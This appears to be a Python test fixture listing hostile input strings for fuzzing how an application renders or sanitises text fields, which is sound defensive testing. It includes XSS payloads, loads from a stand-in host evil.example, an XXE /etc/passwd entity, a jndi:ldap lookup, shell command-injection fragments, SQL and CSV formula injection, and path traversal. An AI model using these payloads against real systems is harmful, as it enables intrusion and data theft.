"""Hostile texts: our own list, and the same attacks recombined; each may stand in any text field."""

from __future__ import annotations

from itertools import product

_RUN = "window.__ran=1"
_OWN = f"""\
<script>{_RUN}</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
</script><script>{_RUN}</script>
</title><script>{_RUN}</script>
</textarea><script>{_RUN}</script>
</style><script>{_RUN}</script>
</noscript><script>{_RUN}</script>
--><script>{_RUN}</script><!--
]]><script>{_RUN}</script>
"><script>{_RUN}</script>
'><script>{_RUN}</script>
\\"><script>{_RUN}</script>
<scr<script>ipt>{_RUN}</scr</script>ipt>
<<script>{_RUN}//<</script>
<script/x>{_RUN}</script>
<script\\x20>{_RUN}</script>
%3Cscript%3E{_RUN}%3C/script%3E
&lt;script&gt;{_RUN}&lt;/script&gt;
&#60;script&#62;{_RUN}&#60;/script&#62;
&amp;lt;script&amp;gt;
\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e
＜script＞{_RUN}＜/script＞
<img src=x onerror={_RUN}>
<img src=x onerror="{_RUN}">
<img/src=x/onerror={_RUN}>
<img src=`x` onerror=`{_RUN}`>
<IMG SRC="javascript:{_RUN}">
<img src="https://evil.example/x.png">
<img srcset="https://evil.example/x.png 2x">
<picture><source srcset=https://evil.example/x.png></picture>
<svg onload={_RUN}>
<svg/onload={_RUN}>
<svg><script>{_RUN}</script></svg>
<svg><animate onbegin={_RUN} attributeName=x dur=1s>
<svg><a xlink:href="javascript:{_RUN}"><text x=20 y=20>x</text></a></svg>
<svg><foreignObject><iframe src="javascript:parent.__ran=1"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x><script>{_RUN}</script></svg>#x"></svg>
<math><mi//xlink:href="data:x,<script>{_RUN}</script>">
<math href="javascript:{_RUN}">x</math>
<iframe src="javascript:parent.__ran=1"></iframe>
<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>
<iframe src=https://evil.example/></iframe>
<object data="javascript:{_RUN}"></object>
<embed src="javascript:{_RUN}">
<base href="https://evil.example/">
<base href=//evil.example>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:{_RUN}">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example/>
<style>*{{display:none}}</style>
<style>@import 'https://evil.example/x.css';</style>
<p style="background:url(https://evil.example/x.png)">x</p>
<p style="position:fixed;inset:0">over everything</p>
<form action="https://evil.example/"><input name=q><button>Search</button></form>
<form><button formaction="javascript:{_RUN}">x</button></form>
<input autofocus onfocus={_RUN}>
<select autofocus onfocus={_RUN}>
<textarea autofocus onfocus={_RUN}>
<details open ontoggle={_RUN}>
<marquee onstart={_RUN}>
<video autoplay onplay={_RUN}><source src=x></video>
<video src=x onerror={_RUN}>
<audio src=x onerror={_RUN}>
<body onload={_RUN}>
<html onclick={_RUN}>
<template><script>{_RUN}</script></template>
<noscript><p title="</noscript><img src=x onerror={_RUN}>">
<div id=pp-find data-index=//evil.example></div>
<a href="javascript:{_RUN}">x</a>
<a href="jAvAsCrIpT:{_RUN}">x</a>
<a href="java&#9;script:{_RUN}">x</a>
<a href="&#106;avascript:{_RUN}">x</a>
<a href="data:text/html,<script>{_RUN}</script>">x</a>
<a href="vbscript:x">x</a>
<a href="//evil.example">x</a>
<a href=https://evil.example ping=https://evil.example>x</a>
<a id=pp-main name=pp-count>x</a>
<div onclick={_RUN}>x</div>
<div onmouseover="{_RUN}" style="font-size:99em">x</div>
<x onclick={_RUN} tabindex=1 id=x></x><input autofocus>
<xss style="animation-name:x" onanimationstart={_RUN}></xss>
<slot name=x><template shadowrootmode=open><script>{_RUN}</script></template>
<![><img src="]><img src=x onerror={_RUN}//">
<!--><img src=x onerror={_RUN}>-->
<?xml version="1.0"?><x onload={_RUN}/>
<!DOCTYPE html SYSTEM "https://evil.example/x.dtd">
<!ENTITY xxe SYSTEM "file:///etc/passwd">
<%= 7*7 %>
<%25= 7*7 %25>
" onmouseover="{_RUN}
' onmouseover='{_RUN}
" autofocus onfocus="{_RUN}" x="
x" onerror="{_RUN}" src="x
`onerror={_RUN}`
"/><img src=x onerror={_RUN}>
' style='display:none
" href="javascript:{_RUN}
" data-rows="o1
" id="pp-main
" class="pp-badge pp-favorable
[x](javascript:{_RUN})
[x](javascript&colon;{_RUN})
[x](data:text/html;base64,PHNjcmlwdD4=)
![x](https://evil.example/x.png)
![x](x){{onerror={_RUN}}}
[x]: javascript:{_RUN}
[x]: https://evil.example "{_RUN}"
<javascript:{_RUN}>
<https://evil.example>
https://evil.example
# Heading {{: onclick={_RUN}}}
text {{: onclick="{_RUN}" style="color:red"}}
{{: onmouseover={_RUN}}}
**x**{{.pp-badge}}
*[HTML]: <script>{_RUN}</script>
[^1]: <script>{_RUN}</script>
--8<-- "/etc/passwd"
;--8<-- "/etc/passwd"
!!! note "<script>{_RUN}</script>"
=== "<img src=x onerror={_RUN}>"
??? x
```html
    <script>{_RUN}</script>
~~~
$$\\href{{javascript:{_RUN}}}{{x}}$$
:material-alert:
:octicons-x-16:
[[_TOC_]]
[TOC]
| a | b |
***
---
===
&copy; &nbsp; &lt; &#x3c; &#0; &unknown;
<b>bold</b> <i>italic</i> <u>x</u> <br> <hr>
{{{{7*7}}}}
{{{{config}}}}
{{{{ "".__class__.__mro__ }}}}
{{% raw %}}x{{% endraw %}}
{{% for x in y %}}
{{# comment #}}
{{{{ url('javascript:x') }}}}
${{7*7}}
#{{7*7}}
${{jndi:ldap://evil.example/x}}
$(id)
`id`
| id
; id
&& id
%0aid
%(x)s %s %d %n
%x%x%x%x
{{0}} {{x.__class__}}
\\
\\\\
\\n\\r\\t\\0
\\x3cscript\\x3e
\\'; {_RUN}; //
'; {_RUN}; //
"; {_RUN}; //
'-{_RUN}-'
"+{_RUN}+"
*/{_RUN}/*
//{_RUN}
' OR 1=1 --
1; DROP TABLE cases
=1+1
=HYPERLINK("https://evil.example","x")
=cmd|' /C calc'!A0
+1+1
-1+1
@SUM(1)
＝1+1
x,=1+1
x;=1+1
"=1+1"
-2.1
PP-BODY-MARK
PP-TITLE-MARK
PP-DESCRIPTION-MARK
<h1 id="pp-body">PP-BODY-MARK</h1>
</div></div></article></main>
</body></html>
<div></div></div>
</li></ol></section>
</p></td></tr></table>
</svg></figure>
</desc></svg><script>{_RUN}</script>
</pre></code>
@misc{{x, title={{y}}}}
}}}}, url = {{javascript:x}}
::error file=x::y
::set-output name=x::y
::stop-commands::x
::add-mask::x
../../../etc/passwd
..\\..\\windows
/etc/passwd
file:///etc/passwd
con
nul
NULL
null
undefined
NaN
Infinity
true
false
0
None
[object Object]
__proto__
constructor
toString
hasOwnProperty
__class__
pp-main
pp-find
S1
o1
é ü ñ ß Ø ł ş
Ω≈ç√∫˜µ≤≥÷
田中さん 部落格 사회과학원
الكتابة من اليمين إلى اليسار
עברית
ภาษาไทย
हिन्दी
👩🏽 🇺🇸 😍 ❤️
(╯°□°）╯︵ ┻━┻
Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮
ﷺ ﷽
ﬁ ﬂ ½ ² ₂
“quotes” ‘single’ «guillemets» „low“
O'Brien & Sons <Ltd>
AT&T; R&D
a < b > c & d
1 < 2 && 3 > 2
5 > 4 " ' `
Tom's "best" <school>
C:\\path\\new
100% of $5 #1 @home
1/2 ~ 3^4 * 5 = _x_ **y**
a   b    c
x<y
<
>
&
"
'
<>
&&
</>
<a
<!--
-->
]]>
<![CDATA[x]]>
"""
_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe src=x",
    "a href=x",
    "x tabindex=1",
    "object data=x",
)
_BREAKS = ("", '">', "'>", "</title>", "</script>", "-->", '\\">', "</textarea>")
_SCHEMES = (
    "javascript:",
    "JAVASCRIPT:",
    "data:text/html,",
    "vbscript:",
    "java&Tab;script:",
    "javascript&colon;",
    "\\x01javascript:",
    "view-source:javascript:",
)
_LINKS = ('<a href="{}x">y</a>', "[y]({}x)", "<{}x>", '"><a href={}x>y</a>', '<area href="{}x">', '<form action="{}x">')


def _recombined() -> list[str]:
    handlers = [f"{end}<{tag} {event}={_RUN}>" for end, tag, event in product(_BREAKS, _TAGS, _HANDLERS)]
    links = [link.format(scheme + _RUN) for link, scheme in product(_LINKS, _SCHEMES)]
    return handlers[::3] + links


STRINGS: tuple[str, ...] = tuple(dict.fromkeys([*(line for line in _OWN.split("\n") if line.strip()), *_recombined()]))
